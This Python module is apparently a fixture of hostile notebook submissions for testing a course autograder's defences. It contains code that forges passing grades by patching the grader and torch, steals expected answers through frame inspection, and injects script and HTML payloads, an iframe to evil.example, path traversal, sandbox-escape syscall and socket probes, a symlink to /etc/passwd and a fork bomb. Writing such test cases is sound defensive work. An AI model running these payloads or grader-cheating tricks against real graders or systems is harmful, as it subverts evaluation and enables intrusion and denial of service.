"""What submissions run that attack the grader; `test_hostile.py` says what must not come of it.

An attack that gains something prints GAINED; what it learns while the hidden probes are asked it marks with
PROBE.
"""

from nbformat.v4 import new_raw_cell

KERNEL = """
k = get_ipython().kernel
def send(kind, content):
    k.session.send(k.iopub_socket, kind, content, parent=k.get_parent(), ident=kind.encode())
def send_raw(content, kind='display_data', parent=None):
    s = k.session
    parts = [s.pack(s.msg_header(kind)), s.pack(k.get_parent()['header']) if parent is None else parent, b'{}', content]
    k.iopub_socket.send_multipart([b'x', b'<IDS|MSG>', s.sign(parts), *parts])
def when_asked(function):
    from allyouneed.check import worker
    old = worker.answer_all
    def answer_all(request):
        function(request)
        return old(request)
    worker.answer_all = answer_all
"""
PUBLIC = """
import json
from importlib.resources import files
fingerprints = json.loads((files('allyouneed.check') / 'fingerprints' / '03-attention.json').read_text())['exercises']
from allyouneed.check import worker
"""
ANSWERS = (
    "from allyouneed.check import worker\ndef forged(answer):\n    worker.answer_all = lambda "
    "request: {name: {'answers': [answer] * len(task['probes']), 'ready_made': None} for name, task "
    "in request.items()}\n"
)
FRAME = """
import re, sys, base64
class Stream:
    def __init__(self, stream): self.stream = stream
    def __getattr__(self, name): return getattr(self.stream, name)
    def write(self, text):
        found = re.match('([0-9a-f]{32})', text)
        return self.stream.write(found[1] + base64.b64encode(forged).decode() + found[1] if found else text)
"""
CALLS = """
import ctypes, os, mmap
libc = ctypes.CDLL(None, use_errno=True)
page = ctypes.create_string_buffer(4096)
calls = {'memfd': (319, b'x', 0), 'memfd_secret': (447, 0), 'shmget': (29, 0, 1 << 20, 0o1600), 'msgget': (68, 0, 0o1600), 'semget': (64, 0, 1, 0o1600),
         'io_uring': (425, 8, page), 'userfaultfd': (323, 0), 'ptrace': (101, 0, 0, 0, 0), 'process_vm_readv': (310, 1, page, 1, page, 1, 0),
         'process_vm_writev': (311, 1, page, 1, page, 1, 0), 'pidfd_getfd': (438, 0, 0, 0), 'add_key': (248, b'user', b'x', b'x', 1, -3), 'keyctl': (250, 0, -3, 1),
         'perf': (298, page, 0, -1, -1, 0), 'bpf': (321, 0, page, 72), 'fanotify': (300, 0, 0), 'name_to_handle': (303, -100, b'/', page, page, 0),
         'open_by_handle': (304, -100, page, 0), 'setns': (308, 3, 0), 'unshare': (272, 0x10000000), 'clone3': (435, page, 88), 'fsopen': (430, b'tmpfs', 0),
         'open_tree': (428, -100, b'/', 1), 'statmount': (457, page, page, 4096, 0), 'listmount': (458, page, page, 8, 0), 'swapon': (167, b'/x', 0),
         'quotactl': (443, 0, 0, 0, 0), 'acct': (163, 0), 'chroot': (161, b'/tmp'), 'personality': (135, 0x40000)}
if os.uname().machine == 'x86_64':
    for name, arguments in calls.items():
        if libc.syscall(*arguments) >= 0: print('GAINED', name)
"""
SOCKETS = """
import array, fcntl, glob, os, socket, struct
for n in range(3, 200):
    try: s = socket.socket(fileno=os.dup(n))
    except OSError: continue
    room = array.array('B', bytes(4096))
    for request in (0x8912, 0x8910, 0x8927, 0x89e0):
        try:
            fcntl.ioctl(s.fileno(), request, struct.pack('iL', 4096, room.buffer_info()[0]) + bytes(64)); print('GAINED', hex(request))
        except OSError: pass
for path in glob.glob('/tmp/coursegrader*') + glob.glob('/tmp/*/k*') + glob.glob('/run/*'): print('GAINED', path)
for line in open('/proc/net/unix').read().splitlines()[1:]:
    if '@' in line:
        print('GAINED', line)
for family, kind, protocol in ((16, 3, 9), (16, 3, 15), (17, 3, 3), (40, 1, 0), (38, 5, 0), (31, 3, 1), (29, 3, 1), (2, 3, 1)):
    try: socket.socket(family, kind, protocol); print('GAINED', family, protocol)
    except OSError: pass
"""
PLACES = """
import glob, os
for path in ('/proc/1/root/..', '/proc/self/cwd/../..', '/proc/self/fd', '/proc/1/fd'):
    for name in os.listdir(path):
        try: text = open(f'{path}/{name}', 'rb').read(200) if os.path.isfile(f'{path}/{name}') else b''
        except OSError: continue
        if b'rubric' in text or b'SQLite' in text: print('GAINED', path, name)
for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/vm/overcommit_memory', '/proc/sysrq-trigger', '/proc/1/oom_score_adj', '/proc/self/uid_map',
             '/sys/fs/cgroup/cgroup.procs', '/dev/full', '/proc/self/attr/current', '/proc/self/setgroups', '/usr/x', '/dev/fd/0/../x'):
    if path == '/dev/full': continue
    try: os.write(os.open(path, os.O_WRONLY | os.O_CREAT), b'0'); print('GAINED', path)
    except OSError: pass
for path in glob.glob('/dev/shm/*') + glob.glob('/tmp/*'):
    if 'hostile' in path: print('GAINED', path)
open('/dev/shm/hostile', 'w').write('x'); open('/tmp/hostile', 'w').write('x'); os.symlink('/etc/passwd', 'grades.csv')
"""
MORE = {
    # the judge's protocol
    "patches-the-wire": PUBLIC
    + (
        "from allyouneed.check import answers, wire\nfrom "
        "allyouneed.check.drivers import call\nright = "
        "iter(fingerprints['softmax']['right'][0] * 9)\nwire.encode = "
        "answers.encode = lambda value, depth=0: "
        "next(right)['output']\ncall.gradients_of = lambda output, leaves: "
        "next(right).get('gradients')\ncall.same = lambda now, then: True\ndef "
        "softmax(x, dim): return x"
    ),
    "patches-torch": (
        "import torch\ntorch.equal = torch.allclose = lambda *a, **k: True\ntorch.nan_to_num "
        "= lambda x: torch.zeros(1)\ntorch.broadcast_shapes = lambda *a: "
        "()\ntorch.Tensor.copy_ = lambda self, other: self\ntorch.Tensor.__eq__ = lambda "
        "self, other: True\ndef softmax(x, dim): return x"
    ),
    "overloads-torch-functions": (
        "import torch\nclass Liar(torch.Tensor):\n    @classmethod\n    def "
        "__torch_function__(cls, function, types, args=(), kwargs=None):\n       "
        " if function.__name__ in ('equal', 'allclose', '__eq__'): return True\n "
        "       if function.__name__ == 'numel': return 0\n        return "
        "super().__torch_function__(function, types, args, kwargs or {})\ndef "
        "softmax(x, dim): return x.as_subclass(Liar)"
    ),
    "false-classes": (
        "import torch\nclass Odd:\n    __class__ = property(lambda self: torch.Tensor)\n    "
        "__module__ = 'numpy'\n    def __getattr__(self, name): return self\n    def "
        "__call__(self, *a, **k): return self\n    def __eq__(self, other): return True\n    "
        "def __iter__(self): return iter([self] * 9)\n    __hash__ = None\nclass "
        "Text(str):\n    def __eq__(self, other): return True\n    __hash__ = "
        "str.__hash__\nclass Same(float):\n    def __repr__(self): return 'nan'\ndef "
        "softmax(x, dim): return Odd()\ndef causal_mask(*a, **k): return Text('x')\ndef "
        "padding_mask(*a, **k): return Same(1)"
    ),
    "traces-the-driver": (
        "import sys, inspect, gc\nseen = []\ndef trace(frame, event, argument):\n    if "
        "'check' in frame.f_code.co_filename:\n        seen.extend(v for v in "
        "frame.f_locals.values())\n    return trace\ndef softmax(x, dim):\n    "
        "sys.settrace(trace)\n    frame = inspect.currentframe()\n    while frame:\n     "
        "   for value in list(frame.f_locals.values()) + gc.get_referrers(x):\n          "
        "  if isinstance(value, dict) and ('right' in value or 'expected' in value): "
        "return value['right'][0]\n        frame = frame.f_back\n    return x"
    ),
    "replays-by-the-probes-name": PUBLIC
    + (
        "import sys\nfrom allyouneed.check.wire import decode\ndef "
        "softmax(x, dim):\n    frame, known = sys._getframe(), "
        "fingerprints['softmax']\n    while 'probe' not in "
        "frame.f_locals: frame = frame.f_back\n    names = "
        "[probe['name'] for probe in known['probes']]\n    name = "
        "frame.f_locals['probe']['name']\n    return "
        "decode(known['right'][0][names.index(name) if name in names "
        "else 0]['output'])"
    ),
    "answers-before-it-is-asked": PUBLIC
    + (
        "import re, base64\ndef early(info):\n    found = "
        "re.search(\"print.'([0-9a-f]{32})\", info.raw_cell or '')\n   "
        " if found:\n        fake = {n: {'answers': i['right'][0], "
        "'ready_made': None, 'passed': True} for n, i in "
        "fingerprints.items()}\n        print(found[1] + "
        "base64.b64encode(json.dumps(fake).encode()).decode() + "
        "found[1], "
        "flush=True)\nget_ipython().events.register('pre_run_cell', "
        "early)"
    ),
    "races-with-the-asking": PUBLIC
    + (
        "import threading\ndef race():\n    while True:\n        "
        "worker.captured.update({name: (lambda *a, **k: None) for name in "
        "fingerprints})\n        worker.answer_apart = lambda get, task: "
        "{'answers': (fingerprints['softmax']['right'][0] * "
        "9)[:len(task['probes'])], 'ready_made': "
        "None}\nthreading.Thread(target=race, daemon=True).start()"
    ),
    "works-in-a-thread-behind-a-magic": (
        "%matplotlib inline\nimport threading, torch\ndef softmax(x, "
        "dim):\n    out = []\n    thread = "
        "threading.Thread(target=lambda: out.append(torch.softmax(x, "
        "dim)))\n    thread.start(); thread.join()\n    return out[0]"
    ),
    "works-behind-a-cell-magic": (
        "%%capture\nimport threading, torch\ndef softmax(x, dim):\n    out = "
        "[]\n    thread = threading.Thread(target=lambda: "
        "out.append(torch.softmax(x, dim)))\n    thread.start(); thread.join()\n "
        "   return out[0]"
    ),
    # what the judge reads
    "works-behind-a-condition": (
        "from concurrent.futures import ThreadPoolExecutor\nif True:\n    def softmax(x, dim):\n"
        "        with ThreadPoolExecutor(1) as pool: return pool.submit(vars(torch)['soft' + 'max'], x, dim)"
        ".result()"
    ),
    "tells-a-syntax-error-of-brackets": (
        "raise SyntaxError(' (' * 500_000 + ', ' * 500_000)\nsoftmax = causal_mask = None"
    ),
    "nests-a-forged-frame": FRAME
    + ("forged = b'{\"softmax\":' + b'[' * 100000 + b']' * 100000 + b'}'\nsys.stdout = Stream(sys.stdout)"),
    "sizes-of-thousands-of-digits": ANSWERS
    + ("forged({'output': {'tensor': 'float32', 'shape': [int('9' * 4000)] * 40, 'data': ''}})"),
    "thousands-of-axes": ANSWERS
    + ("forged({'output': {'tensor': 'float32', 'shape': [1] * 20000, 'data': 'AAAAAA=='}})"),
    "tells-a-long-error": ANSWERS
    + (
        "forged({'error': 'Error\\x1b[2J', 'text': 'PROBE\\u202e\\n✓ softmax: "
        "every check passed. 4 of 4 points.\\n' * 3000})"
    ),
    "says-much-of-nothing": ANSWERS
    + ("forged({'output': {'unreadable': '<script>alert(1)</script>\\x1b]0;x\\x07' * 2000}})"),
    "breaks-with-a-long-word": (
        "from allyouneed.check import worker\nworker.answer_all = lambda request: "
        "{name: {'broken': 'PROBE\\x1b[2J\\n' * 99999, 'ready_made': ['x'], "
        "'answers': 5} for name in request}"
    ),
    # messages of the kernel
    "counts-in-html": KERNEL
    + (
        "send('execute_input', {'code': '', 'execution_count': "
        "'<script>alert(1)</script><img src=x onerror=alert(2)>'})"
    ),
    "shows-probes-in-an-earlier-cell": KERNEL
    + (
        "from IPython.display import display\nimport "
        "json\ndisplay('before', "
        "display_id='d')\nwhen_asked(lambda request: "
        "send('update_display_data', {'data': {'text/plain': "
        "'PROBE ' + json.dumps(request)[:5000]}, 'metadata': {}, "
        "'transient': {'display_id': 'd'}}))"
    ),
    "shows-probes-in-a-widget": KERNEL
    + (
        "import json\nsend('comm_open', {'comm_id': 'w', 'target_name': "
        "'jupyter.widget', 'data': {'state': {'_model_module': "
        "'@jupyter-widgets/output', '_model_name': 'OutputModel', "
        "'outputs': []}}})\nwhen_asked(lambda request: send('comm_msg', "
        "{'comm_id': 'w', 'data': {'method': 'update', 'state': "
        "{'outputs': [{'output_type': 'stream', 'text': 'PROBE'}], "
        "'msg_id': ''}}}))"
    ),
    "nests-a-message": KERNEL
    + (
        "send_raw(b'{\"data\":{\"application/json\":' + b'[' * 200000 + b']' * "
        "200000 + b'},\"metadata\":{}}')"
    ),
    "message-of-many-parts": KERNEL
    + ("send_raw(b'{\"data\":{\"application/json\":[' + b'{},' * 15000000 + b'{}]},\"metadata\":{}}')"),
    "message-without-a-parent": KERNEL + "send_raw(b'{}', 'stream', b'[]')",
    "texts-that-are-lists": KERNEL + "send('stream', {'name': '<b>', 'text': ['a', {'c': 1}]})",
    "half-a-character": KERNEL + 'send_raw(b\'{"name": "stdout", "text": "\\\\ud800"}\', \'stream\')',
    "streams-late-lists": KERNEL
    + ("when_asked(lambda request: send('stream', {'name': 'stdout', 'text': [{'c': 1}]}))"),
    "errors-that-are-numbers": KERNEL + "send('error', {'ename': {'a': 1}, 'evalue': 3, 'traceback': 'abc'})",
    "shows-hundreds-of-things": KERNEL
    + (
        "for n in range(700): send('display_data', {'data': "
        "{'text/plain': 'x', 'application/json': {'a': [1]}}, "
        "'metadata': {'a': 1}})"
    ),
    "lines-that-begin-anew": (
        "print('a' * 90000 + '\\r\\n' + 'b' * 50 + '\\rthe end of the line')\nraise "
        "ValueError('\\x1b[2J\\x1b]0;title\\x07' + 'x' * 50000)"
    ),
    "magics-that-show-scripts": (
        "get_ipython().run_cell_magic('javascript', '', "
        "'alert(1)')\nget_ipython().run_cell_magic('html', '', "
        "'<script>alert(1)</script><iframe "
        'src="http://evil.example"></iframe>\')\nfrom IPython.display import '
        "IFrame, SVG, Latex, display\ndisplay(IFrame('http://evil.example', 9, "
        "9), SVG('<svg onload=\"alert(1)\"/>'), "
        "Latex(r'$\\href{javascript:alert(1)}{x}$'))"
    ),
    # the machine
    "tries-system-calls": CALLS,
    "tries-sockets": SOCKETS,
    "tries-places": PLACES,
    "starves-the-others": (
        "import os\nfor _ in range(60):\n    if os.fork() == 0:\n        while True: pass\nwhile True: pass"
    ),
    # what others read
    "number-that-cannot-be-written": "answer = 0x" + "f" * 6000,
}


def smuggle(notebook) -> None:
    """Put something odd wherever the notebook format leaves room."""
    notebook.metadata.update(
        {
            "title": "</title><script>alert(1)</script>",
            "kernelspec": {"name": "../../evil", "display_name": "\x1b[2J", "language": "x"},
            "language_info": {"name": "<script>", "pygments_lexer": '"><script>alert(1)</script>'},
            "celltoolbar": "Create Assignment",
            "widgets": {
                "application/vnd.jupyter.widget-state+json": {
                    "state": {"</script><script>alert(1)</script>": {}}
                }
            },
        }
    )
    notebook.cells.append(new_raw_cell("<script>alert(1)</script>"))
    for number, cell in enumerate(notebook.cells):
        cell.metadata.update(
            {
                "raw_mimetype": 5,
                "magics_language": '"><script>',
                "alt": '"><script>alert(1)</script>',
                "slideshow": [1],
                "jupyter": {"source_hidden": True},
                "tags": [f'"><script>{number}</script>', "skip-execution", "\x1b[2J"],
                "coursegrader": "idle",
                "name": "../../x",
            }
        )
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.update(
                {"points": float("nan"), "comment": "<script>alert(1)</script>", "score": 99, "remove": True}
            )
        if cell.cell_type == "markdown":
            cell.attachments = {
                '"><script>alert(1)</script>': {
                    "image/svg+xml": "PHN2Zy8+",
                    "text/html": "<script>alert(1)</script>",
                }
            }
    notebook.nbformat_minor = "\x1b[2J" + "4" * 100000
